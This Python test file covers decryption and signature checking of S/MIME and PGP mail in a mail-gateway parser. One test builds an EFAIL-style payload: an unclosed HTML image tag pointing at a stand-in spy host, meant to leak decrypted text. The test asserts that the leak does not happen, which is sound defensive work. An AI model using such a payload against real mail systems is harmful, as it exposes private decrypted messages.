"""What was encrypted for us is opened and read as a mail of its own; what was not says so and is kept."""

from __future__ import annotations

from typing import Any

import pysequoia
import pytest

from fiverings.channels.gateways.mail.parsing import ParsedMail

from .sealing import WORDS, Holder, KeyFolder, beside, detached, head, letter, opaque, pgp_encrypted

JO = "jo@customer.example"


@pytest.fixture(scope="module")
def house() -> Holder:
    return Holder.of("help@house.example")


@pytest.fixture(scope="module")
def maker() -> Holder:
    return Holder.of("Customers' House of Keys")


@pytest.fixture(scope="module")
def ours() -> pysequoia.Tsk:
    return pysequoia.Tsk.generate("Help <help@house.example>")


@pytest.fixture(scope="module")
def theirs() -> pysequoia.Tsk:
    return pysequoia.Tsk.generate(f"Jo <{JO}>")


def encrypted(content: bytes, ours: pysequoia.Tsk, by: pysequoia.Tsk | None = None) -> bytes:
    return bytes(pysequoia.encrypt(content, [ours.extract_certificate()], by.signer() if by else None))


def public(key: pysequoia.Tsk) -> bytes:
    return str(key.extract_certificate()).encode()


def test_a_mail_for_a_key_of_ours_is_opened_with_its_files_and_its_subject(folder: KeyFolder, house: Holder) -> None:
    folder.lay("ours/house.pem", house.pem + house.key_pem)
    found = ParsedMail.read(opaque(house.encrypt(letter(Subject="Line 7 is dead")), subject="..."))
    assert (found.secrecy, found.text, found.subject) == ("opened", WORDS, "Line 7 is dead")
    assert ([each.name for each in found.attachments], found.signature) == (["plan.pdf"], "")


def test_signed_and_then_encrypted_says_both(folder: KeyFolder, house: Holder, maker: Holder) -> None:
    folder.lay("ours/house.pem", house.pem + house.key_pem)
    folder.lay("trusted/maker.pem", maker.pem)
    inner = opaque(Holder.of(JO, maker).sign(letter()))
    found = ParsedMail.read(opaque(house.encrypt(inner)))
    assert (found.secrecy, found.signature, found.signer, found.text) == ("opened", "verified", JO, WORDS)


def test_without_a_key_it_is_kept_and_opened_once_the_key_is_there(folder: KeyFolder, house: Holder) -> None:
    raw = opaque(house.encrypt(letter()))
    before = ParsedMail.read(raw)
    assert (before.secrecy, before.text, [each.name for each in before.attachments]) == ("closed", "", ["smime.p7m"])
    folder.lay("ours/house.pem", house.pem + house.key_pem)
    assert ParsedMail.read(raw).text == WORDS


def test_a_key_file_that_is_spoilt_stops_nothing_and_is_quoted_nowhere(folder: KeyFolder, house: Holder) -> None:
    folder.lay("ours/a.pem", b"-----BEGIN PRIVATE KEY-----\nSECRETSECRET\n-----END PRIVATE KEY-----\n")
    folder.lay("ours/b.pem", house.pem + house.key_pem)
    found = ParsedMail.read(opaque(house.encrypt(letter())))
    assert found.secrecy == "opened" and not any("SECRET" in each for each in found.defects)


def test_pgp_opens_what_is_for_us_and_checks_who_signed(
    folder: KeyFolder, ours: pysequoia.Tsk, theirs: pysequoia.Tsk
) -> None:
    raw = pgp_encrypted(encrypted(letter(Subject="Line 7 is dead"), ours, theirs), subject="...")
    assert ParsedMail.read(raw).secrecy == "closed"
    folder.lay("ours/house.asc", str(ours).encode())
    found = ParsedMail.read(raw)
    assert (found.secrecy, found.text, found.signature) == ("opened", WORDS, "unchecked")
    assert (found.subject, [each.name for each in found.attachments]) == ("Line 7 is dead", ["plan.pdf"])
    folder.lay("trusted/jo.asc", public(theirs))
    found = ParsedMail.read(raw)
    assert (found.signature, found.signer, found.defects) == ("verified", JO, found.defects[:1])


def test_pgp_checks_a_signature_beside_the_mail(folder: KeyFolder, theirs: pysequoia.Tsk) -> None:
    folder.lay("trusted/jo.asc", public(theirs))
    whole = letter()
    raw = beside_pgp(whole, theirs)
    assert ParsedMail.read(raw).signature == "verified"
    assert ParsedMail.read(raw.replace(b"\r\n", b"\n")).signature == "verified"
    assert ParsedMail.read(raw.replace(b"is dead", b"is fine")).signature == "altered"
    assert ParsedMail.read(beside_pgp(whole, theirs, sender="boss@bank.example")).signature == "other"
    stranger = ParsedMail.read(beside_pgp(whole, pysequoia.Tsk.generate(f"Jo <{JO}>")))
    assert stranger.signature == "unchecked" and any("do not have the key" in each for each in stranger.defects)


def beside_pgp(content: bytes, key: pysequoia.Tsk, **more: str) -> bytes:
    return beside(content, detached(key, content), "pgp-signature", **more)


def test_pgp_within_the_words_is_taken_out_of_its_armour(
    folder: KeyFolder, ours: pysequoia.Tsk, theirs: pysequoia.Tsk
) -> None:
    folder.lay("ours/house.asc", str(ours).encode())
    folder.lay("trusted/jo.asc", public(theirs))
    clear = bytes(pysequoia.sign(theirs.signer(), WORDS.encode(), mode=pysequoia.SignatureMode.CLEAR))
    found = ParsedMail.read(head() + b"\r\n" + clear)
    assert (found.text.strip(), found.signature) == (WORDS, "verified")
    assert ParsedMail.read(head() + b"\r\nPay here.\r\n\r\n" + clear).signature == "part"
    assert ParsedMail.read(head() + b"\r\n" + clear.replace(b"dead", b"fine")).signature == "altered"
    found = ParsedMail.read(head() + b"\r\n" + encrypted(WORDS.encode(), ours, theirs))
    assert (found.text.strip(), found.signature, found.secrecy) == (WORDS, "verified", "opened")


def test_what_was_secret_never_stands_in_html_with_what_lay_beside_it(folder: KeyFolder, ours: pysequoia.Tsk) -> None:
    folder.lay("ours/house.asc", str(ours).encode())
    secret = b"Content-Type: text/html\r\n\r\n<p>The code is 4711</p>"
    inner = pgp_encrypted(encrypted(secret, ours)).partition(b"Content-Type")
    leak = b"Content-Type: text/html\r\n\r\n<img src='https://spy.example/?"
    around = b"Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n" + leak + b"\r\n--o\r\n"
    found = ParsedMail.read(head() + around + inner[1] + inner[2] + b"\r\n--o--\r\n")
    assert "4711" in found.text and "4711" not in found.html and "4711" not in found.html_safe


def test_spoilt_seals_cost_nothing_but_themselves(folder: KeyFolder, house: Holder, ours: Any) -> None:
    folder.lay("ours/house.pem", house.pem + house.key_pem)
    folder.lay("ours/house.asc", str(ours).encode())
    sealed = house.encrypt(letter())
    for at in range(0, len(sealed), max(1, len(sealed) // 60)):
        found = ParsedMail.read(opaque(sealed[:at] + bytes([sealed[at] ^ 0x55]) + sealed[at + 1 :]))
        assert found.subject == "Line"
    whole = pgp_encrypted(encrypted(letter(), ours))
    assert ParsedMail.read(whole.replace(b"\r\n\r\n--e1--", b"x\r\n\r\n--e1--")).subject == "Line"
